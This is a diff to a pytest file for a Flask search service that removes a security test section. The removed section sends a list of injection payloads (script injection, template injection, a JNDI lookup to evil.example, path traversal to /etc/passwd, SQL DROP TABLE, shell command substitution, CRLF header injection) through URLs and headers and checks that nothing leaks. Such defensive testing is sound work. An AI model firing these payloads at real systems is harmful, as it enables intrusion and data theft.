@@ -283,68 +283,6 @@ def test_password_keeps_no_password(hashed: str) -> None:
     assert password_hash("a") != password_hash("a"), "salted"
 
 
-# -- injections ------------------------------------------------------------------------------------
-
-ATTACKS = [
-    "<script>alert(1)</script>",
-    "\"'><img src=x onerror=alert(1)>",
-    "{{ config }}{{ 7 * 191 }}",
-    "${jndi:ldap://evil.example/a}",
-    "../../../../etc/passwd",
-    "..\\..\\..\\windows\\win.ini",
-    "/etc/passwd",
-    "%2e%2e/%2e%2e/etc/passwd",
-    "' OR 1=1; DROP TABLE documents; --",
-    "$(touch /tmp/injected)`id`",
-    "a\r\nSet-Cookie: stolen=1\r\n\r\n<script>",
-    "\x00\x1b[31m",
-    "__class__.__mro__",
-    "%s%n%x",
-    "{0.__class__}",
-    "javascript:alert(1)",
-    "*" * 500,
-    "(" * 500,
-    "\ud800",
-]
-
-LEAKS = ("root:x:0", "Traceback", "jinja2", "werkzeug", "site-packages", "SECRET_KEY", "1337")
-
-
-@pytest.mark.parametrize("attack", ATTACKS, ids=lambda text: ascii(text)[:25])
-def test_attacks_do_nothing_wherever_they_stand(
-    location: str, client: FlaskClient, attack: str
-) -> None:
-    quoted = quote(attack.encode("utf-8", "surrogatepass"), safe="")
-    names = ("q", "lang", "page", "limit", "explain", "hl", "id", quoted)
-    addresses = [
-        *(f"{path}?q=phare&{name}={quoted}" for path in ("/", "/api/search") for name in names),
-        f"/documents/{quoted}?q={quoted}",
-        f"/documents/?id={quoted}",
-        f"/{quoted}",
-        f"/api/{quoted}",
-        f"/static/{quoted}",
-    ]
-    for address in addresses:
-        check_harmless(client.get(address), location)
-    header = attack.encode("ascii", "replace").decode().replace("\r", " ").replace("\n", " ")
-    for name in ("Accept-Language", "Authorization", "Host", "X-Forwarded-For", "Range", "Cookie"):
-        for address in ("/?q=phare", "/static/style.css"):
-            check_harmless(client.get(address, headers={name: header}), location)
-
-
-def check_harmless(response: TestResponse, location: str) -> None:
-    assert response.status_code in (200, 206, 308, 400, 404, 416), response.status_code
-    check_headers(response)
-    text = response.get_data(as_text=True)
-    assert location not in text
-    for leak in LEAKS:
-        assert leak not in text
-    if response.mimetype == "text/html":
-        assert text.count("<script") == text.count('<script type="module" src="/static/search.js">')
-        assert "<img src=x" not in text
-    assert "stolen" not in str(response.headers)
-
-
 def test_ids_lead_to_documents_and_never_to_files(client: FlaskClient, location: str) -> None:
     for id in (
         f"{location}/CURRENT",
